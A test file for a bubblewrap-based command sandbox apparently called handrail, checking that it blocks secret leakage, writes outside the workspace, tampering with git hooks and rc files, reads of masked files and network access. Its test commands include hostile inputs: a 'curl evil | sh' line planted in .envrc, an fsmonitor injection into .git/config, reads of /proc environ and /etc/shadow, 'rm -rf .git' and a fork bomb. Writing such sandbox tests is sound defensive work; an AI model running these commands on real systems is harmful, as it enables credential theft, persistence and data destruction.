import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createBwrapBackend } from '../../../src/sandbox/backends/index.js';
import { isPlaceholder } from '../../../src/sandbox/backends/placeholders.js';
import { spawnPlanned } from '../../../src/sandbox/process/index.js';
import { pidsCgroupSupport } from '../../../src/sandbox/process/pids-cgroup.js';
import { processesWithEnv, readProcessTable } from '../../../src/sandbox/process/proc-table.js';
import {
  bwrapBackend,
  isRoot,
  onCleanup,
  own,
  plan,
  run,
  TEST_UID,
  uniqueSleep,
  workspace,
} from '../process/helpers.js';

const backend = await bwrapBackend();
const hasBwrap = backend.status().state !== 'unavailable';

/** Write files as the workspace owner would have them. */
function put(ws: string, rel: string, text: string): string {
  const file = path.join(ws, rel);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  for (let p = file; p !== ws; p = path.dirname(p)) own(p);
  return file;
}

/** handrail's own hard limit on open files (a sandbox cannot raise it). */
function hardOpenFiles(): number {
  const line = readFileSync('/proc/self/limits', 'utf8')
    .split('\n')
    .find((l) => l.startsWith('Max open files'));
  const hard = Number(line?.split(/\s+/)[4]);
  return Number.isFinite(hard) ? hard : Number.POSITIVE_INFINITY;
}

function hostDir(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'handrail-outside-'));
  chmodSync(dir, 0o777);
  onCleanup(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

describe.skipIf(!hasBwrap)('bwrap: secrets', () => {
  const secret = `ghp_handrail_test_${Math.random().toString(36).slice(2)}`;
  beforeEach(() => {
    process.env.GITHUB_TOKEN = secret;
    process.env.AWS_SECRET_ACCESS_KEY = secret;
  });
  afterEach(() => {
    delete process.env.GITHUB_TOKEN;
    delete process.env.AWS_SECRET_ACCESS_KEY;
  });

  it('no environment secret reaches the command, its /proc, bwrap argv or bwrap environment', async () => {
    const ws = workspace();
    const cmd = [
      'echo "[$GITHUB_TOKEN][$AWS_SECRET_ACCESS_KEY]"',
      'cat /proc/1/environ /proc/self/environ /proc/$PPID/environ /proc/1/cmdline | tr "\\0" "\\n"',
      'env',
      `cat /proc/${process.pid}/environ 2>/dev/null || echo no-host-pid`,
    ].join('; ');
    const r = await run(ws, cmd, { backend });
    expect(r.exit.code).toBe(0);
    expect(r.stdout.startsWith('[][]\n')).toBe(true);
    expect(r.stdout).toContain('no-host-pid');
    expect(r.stdout).not.toContain(secret);
    expect(r.stderr).not.toContain(secret);
    expect(JSON.stringify(r.plan.argv)).not.toContain(secret);
    expect(JSON.stringify(r.plan.env)).not.toContain(secret);
  });

  it('a fresh PID namespace: the host processes are invisible', async () => {
    const ws = workspace();
    const r = await run(ws, 'ls /proc | grep -c "^[0-9]"', { backend });
    expect(Number(r.stdout.trim())).toBeLessThan(10);
  });
});

describe.skipIf(!hasBwrap)('bwrap: writes', () => {
  it('a write outside the roots fails and leaves nothing on the host', async () => {
    const ws = workspace();
    const outside = hostDir();
    const n = uniqueSleep();
    const cmd = [
      `echo x > ${outside}/f`,
      `echo x > /etc/handrail-${n}`,
      `mkdir /var/tmp/handrail-${n}`,
      `echo x > /usr/handrail-${n}`,
      `echo x > /tmp/handrail-tmp-${n} && echo tmp-ok`,
      'echo end',
    ].join('; ');
    const r = await run(ws, cmd, { backend });
    expect(r.stdout).toBe('tmp-ok\nend\n');
    expect(r.stderr.split('\n').filter(Boolean)).toHaveLength(4);
    expect(readdirSync(outside)).toEqual([]);
    for (const p of [
      `/etc/handrail-${n}`,
      `/var/tmp/handrail-${n}`,
      `/usr/handrail-${n}`,
      `/tmp/handrail-tmp-${n}`,
    ]) {
      expect(existsSync(p)).toBe(false);
    }
  });

  it('the workspace is writable, as its owner', async () => {
    const ws = workspace();
    const r = await run(ws, 'echo hello > new.txt && mkdir -p a/b && echo ok', { backend });
    expect(r.stdout).toBe('ok\n');
    expect(readFileSync(path.join(ws, 'new.txt'), 'utf8')).toBe('hello\n');
    if (isRoot) expect(statSync(path.join(ws, 'new.txt')).uid).toBe(TEST_UID);
  });

  it('.git/config, an existing .bashrc and a missing .envrc stay untouched', async () => {
    const ws = workspace();
    execFileSync('git', ['init', '-q', ws]);
    if (isRoot) execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, ws]);
    const config = readFileSync(path.join(ws, '.git/config'), 'utf8');
    put(ws, '.bashrc', 'original\n');
    const cmd = [
      'echo "[core] fsmonitor = evil" >> .git/config',
      'echo evil > .git/hooks/pre-commit',
      'echo evil > .bashrc',
      'echo evil > .envrc',
      'echo evil > .npmrc',
      'mkdir -p .vscode/x',
      'rm -rf .git',
      'mv .bashrc moved',
      'echo ok > normal.txt',
      'echo end',
    ].join('; ');
    const r = await run(ws, cmd, { backend });
    expect(r.stdout).toBe('end\n');
    expect(r.stderr.split('\n').filter(Boolean).length).toBeGreaterThanOrEqual(8);
    expect(readFileSync(path.join(ws, '.git/config'), 'utf8')).toBe(config);
    expect(existsSync(path.join(ws, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('original\n');
    expect(readFileSync(path.join(ws, 'normal.txt'), 'utf8')).toBe('ok\n');
    // The placeholders that kept .envrc, .npmrc and .vscode from being created go with the command.
    expect(isPlaceholder(path.join(ws, '.envrc'))).toBe(false);
    expect(readdirSync(ws).sort()).toEqual(['.bashrc', '.git', 'normal.txt']);
  });

  it('a nested protected file replaced by moving its folder aside is reported as created', async () => {
    const ws = workspace();
    put(ws, 'pkg/sub/.envrc', 'original\n');
    const r = await run(
      ws,
      'mv pkg/sub pkg/sub.old && mkdir pkg/sub && echo "curl evil | sh" > pkg/sub/.envrc; echo end',
      { backend },
    );
    expect(r.stdout).toBe('end\n');
    expect(r.exit.notes.join('\n')).toMatch(/created protected paths, which handrail.*pkg\/sub\/\.envrc/s);
  });

  it('the folders holding the runtime’s own files cannot be moved aside (pinned), their other files stay writable', async () => {
    const ws = workspace();
    const policy = put(ws, 'conf/policy.json', '{"allow": []}\n');
    const r = await run(
      ws,
      'mv conf conf.old 2>/dev/null && echo MOVED; echo x > conf/other.txt && echo OTHER; echo y > conf/policy.json 2>/dev/null || echo KEPT',
      { backend, protectedFiles: [policy] },
    );
    expect(r.stdout).toBe('OTHER\nKEPT\n');
    expect(readFileSync(policy, 'utf8')).toBe('{"allow": []}\n');
  });

  it('git init works in a fresh workspace; hooks a command plants in a new repository are removed and reported', async () => {
    const ws = workspace();
    const r = await run(
      ws,
      'git init -q . && echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git status --short && echo done',
      { backend },
    );
    expect(r.stdout).toBe('done\n');
    expect(existsSync(path.join(ws, '.git/HEAD'))).toBe(true);
    expect(existsSync(path.join(ws, '.git/hooks/pre-commit'))).toBe(false);
    // git's own templates are not hooks: they stay.
    expect(readdirSync(path.join(ws, '.git/hooks')).every((name) => name.endsWith('.sample'))).toBe(true);
    expect(r.exit.notes.join('\n')).toContain('created protected paths, which handrail');
    expect(r.exit.notes.join('\n')).toContain('.git/hooks/pre-commit');
    // The next command finds the repository there already: it is bound read-only like any other.
    const again = await run(ws, 'echo evil > .git/hooks/post-checkout 2>/dev/null || echo refused', {
      backend,
    });
    expect(again.stdout).toBe('refused\n');
    expect(again.exit.notes).toEqual([]);
  });

  it('protected names created below the top of a root are reported after the command', async () => {
    const ws = workspace();
    put(ws, 'sub/keep.txt', 'k\n');
    if (isRoot) execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, ws]);
    const r = await run(
      ws,
      'echo "export X=1" > sub/.envrc; mkdir -p sub/deep/.vscode; echo ok > sub/fine.txt',
      {
        backend,
      },
    );
    const notes = r.exit.notes.join('\n');
    expect(notes).toContain('sub/.envrc');
    expect(notes).toContain('sub/deep/.vscode');
    expect(notes).not.toContain('fine.txt');
    // Reported, not removed: only hooks in a new repository run by themselves.
    expect(readFileSync(path.join(ws, 'sub/.envrc'), 'utf8')).toBe('export X=1\n');
  });

  it('git in the sandbox still works in a repository whose .git is read-only', async () => {
    const ws = workspace();
    execFileSync('git', ['init', '-q', ws]);
    put(ws, 'a.txt', 'a\n');
    if (isRoot) execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, ws]);
    const r = await run(ws, 'git status --short; git log 2>&1 | head -1', { backend });
    expect(r.stdout).toBe("?? a.txt\nfatal: your current branch 'master' does not have any commits yet\n");
  });

  it('a .bashrc planted in the workspace, or in HOME by an earlier command, never runs', async () => {
    const ws = workspace();
    put(ws, '.bashrc', 'touch "$PWD/pwned-ws"\n');
    put(ws, '.profile', 'touch "$PWD/pwned-profile"\n');
    const first = await run(ws, 'echo \'touch "$PWD/pwned-home"\' > ~/.bashrc && echo planted', { backend });
    expect(first.stdout).toBe('planted\n');
    const second = await run(ws, 'bash -i -c true 2>/dev/null; sh -c true; ls', { backend });
    expect(second.stdout).not.toContain('pwned');
    expect(readdirSync(ws).filter((name) => name.startsWith('pwned'))).toEqual([]);
  });

  it('a nested read-only root stays read-only', async () => {
    const ws = workspace();
    put(ws, 'vendor/lib.js', 'lib\n');
    const r = await run(ws, 'cat vendor/lib.js; echo x > vendor/lib.js; echo x > vendor/new.js; echo end', {
      backend,
      roots: [
        { path: ws, access: 'write' },
        { path: path.join(ws, 'vendor'), access: 'read' },
      ],
    });
    expect(r.stdout).toBe('lib\nend\n');
    expect(readFileSync(path.join(ws, 'vendor/lib.js'), 'utf8')).toBe('lib\n');
    expect(existsSync(path.join(ws, 'vendor/new.js'))).toBe(false);
  });

  it("handrail's state directory and extra protected paths are read-only", async () => {
    const ws = workspace();
    put(ws, '.handrail/outputs/o.txt', 'saved\n');
    put(ws, 'deploy/prod.yml', 'prod\n');
    const r = await run(
      ws,
      'cat .handrail/outputs/o.txt; echo x > .handrail/outputs/o.txt; echo x > deploy/prod.yml; echo x > deploy/new.yml; echo end',
      { backend, protectedPaths: ['deploy/**'], stateDir: path.join(ws, '.handrail') },
    );
    expect(r.stdout).toBe('saved\nend\n');
    expect(readFileSync(path.join(ws, '.handrail/outputs/o.txt'), 'utf8')).toBe('saved\n');
    expect(readFileSync(path.join(ws, 'deploy/prod.yml'), 'utf8')).toBe('prod\n');
    expect(existsSync(path.join(ws, 'deploy/new.yml'))).toBe(false);
  });

  it('placeholders go when the command ends: nothing is left for the host to trip on', async () => {
    const ws = workspace();
    const r = await run(ws, 'test -d .npmrc && echo held', { backend });
    expect(r.stdout).toBe('held\n');
    expect(readdirSync(ws)).toEqual([]);
  });

  it('placeholders are shared by concurrent commands and removed once the last one ends', async () => {
    const ws = workspace();
    const n = uniqueSleep();
    const long = await plan(ws, { cmd: `sleep ${n}` }, { backend });
    if (!long.ok) throw new Error(long.message);
    const handle = spawnPlanned(long.plan, { graceMs: 100 });
    const short = await run(ws, 'echo x > .npmrc; test -d .npmrc && echo held', { backend });
    expect(short.stdout).toBe('held\n');
    // The long command still holds .npmrc: a third command cannot create it either.
    const third = await run(ws, 'echo x > .npmrc 2>/dev/null || echo refused', { backend });
    expect(third.stdout).toBe('refused\n');
    expect(existsSync(path.join(ws, '.npmrc'))).toBe(true);
    await handle.kill();
    await handle.exit;
    expect(readdirSync(ws)).toEqual([]);
  });
});

describe.skipIf(!hasBwrap)('bwrap: deny-read', () => {
  it('masked files and directories read nothing, and stay as they were', async () => {
    const ws = workspace();
    put(ws, '.env', 'TOKEN=top-secret-1\n');
    put(ws, 'sub/.env', 'TOKEN=top-secret-2\n');
    put(ws, 'secrets/key.pem', 'top-secret-3\n');
    put(ws, 'visible.txt', 'fine\n');
    const cmd = [
      'cat .env',
      'cat sub/.env',
      'ls secrets',
      'cat secrets/key.pem',
      'grep -r top-secret . 2>/dev/null',
      'echo overwrite > .env',
      'cat visible.txt',
    ].join('; ');
    const r = await run(ws, cmd, { backend, denyRead: ['**/.env', 'secrets'] });
    expect(r.stdout).toBe('fine\n');
    expect(r.stderr).not.toContain('top-secret');
    expect(r.stderr).toContain('Permission denied');
    expect(readFileSync(path.join(ws, '.env'), 'utf8')).toBe('TOKEN=top-secret-1\n');
  });

  it('absolute deny globs hide system files too', async () => {
    const ws = workspace();
    const r = await run(ws, 'cat /etc/hostname >/dev/null && echo readable || echo hidden', {
      backend,
      denyRead: ['/etc/hostname'],
    });
    expect(r.stdout).toBe('hidden\n');
  });

  it('refuses to run when the roots are too large to find every deny-read and protected path', async () => {
    const ws = workspace();
    for (let i = 0; i < 30; i++) put(ws, `f${i}.txt`, '');
    const small = createBwrapBackend({ maxScanEntries: 10 });
    const message =
      'The sandbox cannot enforce the deny-read and protected paths: the roots hold more than 10 entries, the most it walks to find them. Narrow the roots or raise maxScanEntries.';
    // Protected paths need the walk too, deny-read rules or not: a deeper .npmrc would be writable.
    for (const denyRead of [['**/*.pem'], ['config/prod'], []]) {
      const result = await plan(ws, { cmd: 'ls' }, { backend: small, denyRead });
      expect(result).toEqual({ ok: false, errorClass: 'permission_denied', message });
    }
    // A read-only root with literal deny paths only needs no walk at all.
    const result = await plan(
      ws,
      { cmd: 'ls' },
      {
        backend: small,
        denyRead: ['config/prod'],
        roots: [{ path: ws, access: 'read' }],
      },
    );
    expect(result.ok).toBe(true);
  });
});

describe.skipIf(!hasBwrap)('bwrap: limits and network', () => {
  it('applies the resource limits inside the sandbox', async () => {
    const ws = workspace();
    const r = await run(ws, 'ulimit -u; ulimit -c; ulimit -v; ulimit -f; ulimit -n; ulimit -Hn', { backend });
    const files = String(Math.min(8192, hardOpenFiles()));
    expect(r.stdout).toBe(`512\n0\n${16 * 1024 * 1024}\n${4 * 1024 * 1024}\n${files}\n${files}\n`);
  });

  // As root, a root-owned workspace runs commands as uid 0 (no capabilities), which RLIMIT_NPROC does not
  // bind: the pids cgroup must.
  it.each(isRoot ? (['test', 'root'] as const) : (['test'] as const))(
    'bounds the process count, so a fork bomb ends and handrail survives (workspace owner: %s)',
    async (owner) => {
      const ws = workspace({ owner });
      // perl stops at the first failed fork (bash would retry with growing pauses), then counts /proc.
      const forker =
        'perl -e \'for (1..200) { my $p = fork(); last unless defined $p; if (!$p) { sleep 30; exit } } opendir(my $d, "/proc"); print scalar(grep { /^\\d+$/ } readdir($d)), "\\n"\'';
      const count = await run(ws, forker, { backend, profile: { rlimits: { processes: 40 } } });
      if (owner === 'root') expect(count.plan.sandbox.identity?.mode).toBe('mapped-root');
      expect(Number(count.stdout.trim())).toBeGreaterThan(20);
      expect(Number(count.stdout.trim())).toBeLessThanOrEqual(41);

      const bomb = await run(
        ws,
        { cmd: 'bomb() { bomb | bomb & }; bomb; sleep 5', timeoutMs: 1500 },
        {
          backend,
          profile: { rlimits: { processes: 64 } },
          graceMs: 100,
        },
      );
      expect(bomb.exit).toMatchObject({ timedOut: true, unsandboxed: false });
      expect([...processesWithEnv(readProcessTable(), 'HANDRAIL_RUN', bomb.plan.runId)]).toEqual([]);
      if (isRoot)
        expect(bomb.exit.notes.join('\n')).toContain('The command reached the process limit (64 processes)');
      // handrail can still start processes.
      expect((await run(ws, 'echo alive', { backend })).stdout).toBe('alive\n');
    },
  );

  it('the network is unreachable unless the profile enables it', async () => {
    const ws = workspace();
    const server = createServer((socket) => socket.end('hello\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    onCleanup(() => new Promise<void>((resolve) => server.close(() => resolve())));
    const port = (server.address() as { port: number }).port;
    const cmd = `exec 3<>/dev/tcp/127.0.0.1/${port} 2>/dev/null && cat <&3 || echo unreachable`;
    expect((await run(ws, cmd, { backend })).stdout).toBe('unreachable\n');
    expect((await run(ws, cmd, { backend, profile: { network: true } })).stdout).toBe('hello\n');
  });
});

describe.skipIf(!hasBwrap || !isRoot)('bwrap as root: who the command runs as', () => {
  it('runs as the workspace owner, and root-only files stay closed', async () => {
    const ws = workspace();
    const r = await run(ws, 'id -u; cat /etc/shadow 2>/dev/null || echo closed', { backend });
    expect(r.stdout).toBe(`${TEST_UID}\nclosed\n`);
    expect(r.plan.sandbox.identity).toEqual({ mode: 'owner', uid: TEST_UID, gid: TEST_UID });
    expect(r.plan.argv).toContain('/usr/bin/setpriv');
    expect(r.plan.sandbox.degraded).toBeUndefined();
  });

  it("why: bwrap's own --uid as root still reads root-only files (the uid outside stays 0)", () => {
    const out = execFileSync(
      '/usr/bin/bwrap',
      [
        '--ro-bind',
        '/',
        '/',
        '--unshare-user',
        '--uid',
        '65534',
        '--gid',
        '65534',
        '--',
        'sh',
        '-c',
        'id -u; head -c 5 /etc/shadow',
      ],
      { encoding: 'utf8' },
    );
    expect(out.startsWith('65534\n')).toBe(true);
    expect(out.length).toBeGreaterThan('65534\n'.length);
  });

  it('writes a root-owned workspace as uid 0 without capabilities; what only root may read stays closed', async () => {
    const ws = workspace({ owner: 'root' });
    chmodSync(ws, 0o700);
    const cmd = [
      'echo x > f && echo wrote',
      'cat /etc/shadow 2>/dev/null || echo shadow-closed',
      'cat /etc/gshadow 2>/dev/null || echo gshadow-closed',
      'grep -E "^(CapEff|CapBnd|NoNewPrivs)" /proc/self/status',
    ].join('; ');
    const r = await run(ws, cmd, { backend });
    expect(r.stdout).toBe(
      'wrote\nshadow-closed\ngshadow-closed\nCapEff:\t0000000000000000\nCapBnd:\t0000000000000000\nNoNewPrivs:\t1\n',
    );
    expect(statSync(path.join(ws, 'f')).uid).toBe(0);
    expect(r.plan.sandbox.identity).toEqual({ mode: 'mapped-root', uid: 0, gid: 0 });
    expect(r.plan.sandbox.degraded).toBeUndefined();
  });

  it('uid 0 in the sandbox cannot write sysctls, change the host device nodes or read root-only /proc files', async () => {
    const ws = workspace({ owner: 'root' });
    const before = statSync('/dev/null').mode;
    const cmd = [
      // kernel.core_pattern runs a program as host root: the kernel lets uid 0 open it without a capability.
      '(exec 3>>/proc/sys/kernel/core_pattern) 2>/dev/null && echo core_pattern-open || echo sysctl-closed',
      'chmod 600 /dev/null 2>/dev/null && echo chmod-worked || echo devices-closed',
      'echo x > /dev/null && head -c 4 /dev/urandom | wc -c',
      'head -c 1 /proc/kpageflags >/dev/null 2>&1 && echo kpageflags-read || echo kpageflags-closed',
    ].join('; ');
    for (const b of [backend, createBwrapBackend({ runAs: 'root' })]) {
      const r = await run(ws, cmd, { backend: b });
      expect(r.plan.sandbox.identity?.mode).toBe('mapped-root');
      expect(r.stdout).toBe('sysctl-closed\ndevices-closed\n4\nkpageflags-closed\n');
      expect(statSync('/dev/null').mode).toBe(before);
    }
  });

  it("runAs 'root' writes a root-owned workspace, without capabilities and with root-only files hidden", async () => {
    const ws = workspace({ owner: 'root' });
    const root = createBwrapBackend({ runAs: 'root' });
    expect(root.status().state).toBe(pidsCgroupSupport().ok ? 'ready' : 'degraded');
    const r = await run(
      ws,
      'echo x > f && echo wrote; cat /etc/shadow 2>/dev/null || echo closed; grep CapEff /proc/self/status',
      { backend: root },
    );
    expect(r.stdout).toBe('wrote\nclosed\nCapEff:\t0000000000000000\n');
    expect(statSync(path.join(ws, 'f')).uid).toBe(0);
    expect(r.plan.sandbox.identity?.mode).toBe('mapped-root');
  });

  it('runs as an explicit uid when configured', async () => {
    const ws = workspace();
    chmodSync(ws, 0o755);
    const r = await run(ws, 'id -u; id -G', {
      backend: createBwrapBackend({ runAs: { uid: 5151, gid: 5151 } }),
    });
    expect(r.stdout).toBe('5151\n5151\n');
  });
});

describe.skipIf(!hasBwrap)('bwrap: the view', () => {
  it('shows the system read-only, a private /tmp and the HOME of the run', async () => {
    const ws = workspace();
    const r = await run(ws, 'ls /; echo x > ~/f && echo home-ok; touch /usr/x 2>/dev/null || echo usr-ro', {
      backend,
    });
    expect(r.stdout.split('\n')).toEqual(
      expect.arrayContaining(['bin', 'dev', 'etc', 'proc', 'tmp', 'usr', 'home-ok', 'usr-ro']),
    );
    expect(r.stdout.split('\n')).not.toContain('root');
    expect(r.stdout.split('\n')).not.toContain('work');
  });

  it('runs in the requested subdirectory', async () => {
    const ws = workspace();
    put(ws, 'sub/x.txt', 'x');
    const r = await run(ws, { cmd: 'pwd; ls' }, { backend });
    expect(r.stdout).toBe(`${ws}\nsub\n`);
    const s = await run(ws, { cmd: 'pwd', workdir: 'sub' }, { backend });
    expect(s.stdout).toBe(`${path.join(ws, 'sub')}\n`);
  });
});
